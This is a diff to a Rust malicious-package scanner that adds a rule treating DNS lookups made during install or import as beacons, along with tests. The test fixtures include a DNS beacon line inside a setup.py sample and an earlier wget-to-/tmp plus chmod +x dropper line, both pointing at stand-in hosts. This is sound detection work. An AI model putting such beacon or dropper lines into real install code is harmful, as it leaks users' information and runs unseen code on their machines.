@@ -117,6 +117,13 @@ fn fetches_and_marks_executable(command: &str) -> bool {
     SAVE.is_match(command) && MARK.is_match(command)
 }
 
+/// `dig @1.1.1.1 install.x.example`, `nslookup host`: a DNS query from install or import code
+/// is a beacon telling its author where the package landed (the name can carry data).
+fn is_dns_lookup(command: &str) -> bool {
+    static DNS: LazyLock<Regex> = crate::static_regex!(r"(?i)^\s*(dig|nslookup|host)(\.exe)?\s+\S");
+    DNS.is_match(command)
+}
+
 /// A command that starts a program file the package dropped or fetched: a Windows executable
 /// or script, or a script under /tmp.
 fn starts_dropped_file(command: &str) -> bool {
@@ -389,7 +396,9 @@ fn classify_command(
                 // A second Python interpreter started in the background while loading runs
                 // code the package does not show: the payload lives elsewhere.
                 ExecContext::Install | ExecContext::Import
-                    if starts_interpreter(command) || starts_dropped_file(command) =>
+                    if starts_interpreter(command)
+                        || starts_dropped_file(command)
+                        || is_dns_lookup(command) =>
                 {
                     0.7
                 }
@@ -555,6 +564,15 @@ mod tests {
         assert!(!fetches_and_marks_executable("chmod +x build.sh"));
         let code = "import subprocess\ndef go(f):\n    subprocess.run(f'wget -qO /tmp/{f} https://x.invalid/b && chmod +x /tmp/{f}', shell=True)\n";
         assert!(max_severity("p/pkg/m.py", code, "WH120") >= 0.75);
+    }
+
+    #[test]
+    fn dns_lookups_while_installing_are_beacons() {
+        assert!(is_dns_lookup("dig @1.1.1.1 install.api.x.invalid"));
+        assert!(!is_dns_lookup("digest --check"));
+        let code =
+            "import subprocess\nsubprocess.getoutput('dig @1.1.1.1 install.api.x.invalid')\n";
+        assert!(max_severity("p/setup.py", code, "WH120") >= 0.7);
     }
 
     #[test]
